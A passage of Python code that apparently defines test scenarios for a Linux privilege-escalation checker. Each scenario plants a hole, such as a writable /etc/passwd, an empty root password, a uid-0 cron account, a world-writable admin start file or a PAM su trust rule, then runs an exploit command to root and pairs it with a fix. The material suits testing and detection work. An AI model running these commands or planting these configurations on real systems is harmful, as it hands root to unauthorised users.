        walk=kept(root_by(step("carol", "echo carol >> /etc/su-admins"), step("carol", f"su -c '{PROVES}'")), "/etc/su-admins"),
        other=PERHAPS_WRITES,
        twin=shell("chown root /etc/su-admins"),
    ),
    Way(
        name="su that trusts one user to become another, who has sudo",
        plant=all_of(
            sudoers("frank ALL=(ALL) NOPASSWD: ALL"),
            stack("su", "auth [success=ignore default=1] pam_succeed_if.so user = frank", "auth sufficient pam_succeed_if.so use_uid user = carol"),
        ),
        walk=root_by(step("carol", f"su frank -c \"sudo -n sh -c '{PROVES}'\"")),
        certain={"user:carol": ("becomes runs-as",), **RUNS_AS},
        twin=stack("su", "auth [success=ignore default=1] pam_succeed_if.so user = dave", "auth sufficient pam_succeed_if.so use_uid user = carol"),
        left=RUNS_AS,
    ),
]
BY_ACCOUNTS_WAYS = [
    Way(
        name="a file of accounts that a user's group may write",
        plant=all_of(SU, shell("chgrp carol /etc/passwd; chmod 0664 /etc/passwd")),
        walk=kept(root_by(step("carol", "echo 'own::0:0::/:/bin/sh' >> /etc/passwd"), step("carol", f"su own -c '{PROVES}'")), "/etc/passwd"),
        certain=WRITES,
        twin=shell("chmod 0644 /etc/passwd"),
    ),
    Way(
        name="root without a password",
        plant=all_of(SU, lines("shadow", "root::19000:0:99999:7:::"), shell("sed -i '/^root:[^:]/d' /etc/shadow")),
        walk=root_by(step("dave", f"su -c '{PROVES}'")),
        certain={EVERYONE: ("becomes",)},
        twin=shell("sed -i 's/^root::/root:*:/' /etc/shadow"),
    ),
    Way(
        name="a script of the cron of a second account with uid 0",
        plant=all_of(
            CRON_IS_THERE,
            lines("passwd", "toor:x:0:0::/root:/bin/sh"),
            file(SCRIPT, PROGRAM, CAROLS),
            shell(f"{SPOOL}; echo '* * * * * {SCRIPT}' > /var/spool/cron/crontabs/toor; chmod 0600 /var/spool/cron/crontabs/toor"),
        ),
        walk=writes("sed -n 's/^[*] [*] [*] [*] [*] //p' /var/spool/cron/crontabs/toor | sh -e"),
        certain=WRITES,
        other={"user:toor": ("certain own-password: is",)},
        twin=shell(CLOSES),
        left={"user:toor": ("certain own-password: is",)},
    ),
    Way(
        name="a start file of an administrator's that everybody may write",
        plant=all_of(sudoers("alice ALL=(ALL) NOPASSWD: ALL"), without_alice, written(START, ":\n", "alice", 0o666), shell("chmod 0755 {home}/alice")),
        walk=kept(root_by(step("carol", f"echo \"sudo -n sh -c '{PROVES}'\" > {START}"), logs_in("alice")), START),
        certain={EVERYONE: ("writes runs runs-as",), "user:alice": ("runs-as",)},
        twin=shell(f"chmod 0644 {START}"),
        left={"user:alice": ("runs-as",)},
    ),
]
WAYS = [*BY_SUDO_WAYS, *BY_DOAS_WAYS, *BY_SETUID_WAYS, *BY_ROOT_WAYS, *BY_ACCOUNTS_WAYS, *BY_PAM_WAYS]
